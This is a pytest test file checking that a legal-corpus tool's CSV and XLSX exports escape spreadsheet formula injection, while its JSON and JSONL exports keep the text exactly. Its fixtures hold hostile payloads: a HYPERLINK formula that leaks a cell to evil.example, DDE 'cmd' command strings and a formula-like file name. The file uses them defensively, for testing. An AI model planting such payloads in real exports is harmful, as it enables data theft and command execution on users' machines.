"""Formula injection: text from laws and manifests that a spreadsheet would run as a formula is
written as text in CSV and XLSX exports, and kept exactly in JSON and JSONL."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from corpus.model import DocumentMeta
from corpus.store import Store
from flows.steps import ingest
from reports.matrix import build_matrix
from reports.matrix_exports import write_matrix
from reports.provisions_export import write_provisions
from tests.review_store import tag

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
JURISDICTION = "+1+cmd|' /C calc'!A0"
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_LAW = f"""HOSTILE ACT

Section 1. {FORMULA}
- every homeworker shall be paid the minimum wage.
"""


@pytest.fixture
def store(tmp_path: Path) -> Store:
    law = tmp_path / "-2+3.txt"
    law.write_text(HOSTILE_LAW, encoding="utf-8")
    store = Store(tmp_path / "c177.sqlite")
    outcome = ingest(store, law, DocumentMeta(jurisdiction=JURISDICTION, title=TITLE))
    assert outcome.status == "ingested", outcome
    (stored,) = store.provisions(document_id=outcome.document_id)
    store.save_tags({stored.id: tag("explicit", ["remuneration"], stored.provision.text)})
    yield store
    store.close()


def starts_like_a_formula(value: str) -> bool:
    return value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_provisions_csv_cells_are_text_and_jsonl_keeps_the_exact_text(store: Store) -> None:
    out = io.StringIO()
    write_provisions(store.provisions(), "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert not [value for value in row.values() if starts_like_a_formula(value)]
    assert row["text"].startswith("'" + FORMULA)
    assert row["jurisdiction"] == "'" + JURISDICTION and row["title"] == "'" + TITLE
    assert row["document"] == "'-2+3.txt"

    out = io.StringIO()
    write_provisions(store.provisions(), "jsonl", out)
    record = json.loads(out.getvalue())
    assert (record["text"].split("\n")[0], record["jurisdiction"], record["title"]) == (
        FORMULA,
        JURISDICTION,
        TITLE,
    )
    assert record["document"] == "-2+3.txt"


def test_matrix_csv_and_evidence_csv_cells_are_text(store: Store, tmp_path: Path) -> None:
    matrix_csv, evidence_csv = write_matrix(
        build_matrix(store.provisions()), "csv", tmp_path / "out" / "matrix.csv"
    )
    rows = list(csv.reader(matrix_csv.open(encoding="utf-8")))
    assert rows[1][0] == "'" + JURISDICTION
    evidence = list(csv.DictReader(evidence_csv.open(encoding="utf-8")))
    assert evidence, "the hostile provision is evidence of its cell"
    for row in evidence:
        assert not [value for value in row.values() if starts_like_a_formula(value)]
        assert (row["jurisdiction"], row["document"], row["title"]) == (
            "'" + JURISDICTION,
            "'-2+3.txt",
            "'" + TITLE,
        )


def test_matrix_json_keeps_the_exact_text(store: Store, tmp_path: Path) -> None:
    (path,) = write_matrix(build_matrix(store.provisions()), "json", tmp_path / "matrix.json")
    data = json.loads(path.read_text("utf-8"))
    assert data["jurisdictions"] == [JURISDICTION]
    assert {e["title"] for c in data["cells"] for e in c["evidence"]} == {TITLE}


def test_xlsx_holds_no_formula_and_shows_the_text(store: Store, tmp_path: Path) -> None:
    (path,) = write_matrix(build_matrix(store.provisions()), "xlsx", tmp_path / "matrix.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
    book = load_workbook(path)
    assert book["Matrix"]["A2"].value == JURISDICTION
    assert book["Matrix"]["A2"].data_type == "s" and book["Matrix"]["A2"].quotePrefix
    evidence = book["Evidence"]
    header = [cell.value for cell in evidence[1]]
    row = {name: cell for name, cell in zip(header, evidence[2], strict=True)}
    assert row["title"].value == TITLE and row["title"].data_type == "s"
    assert row["document"].value == "-2+3.txt" and row["document"].quotePrefix
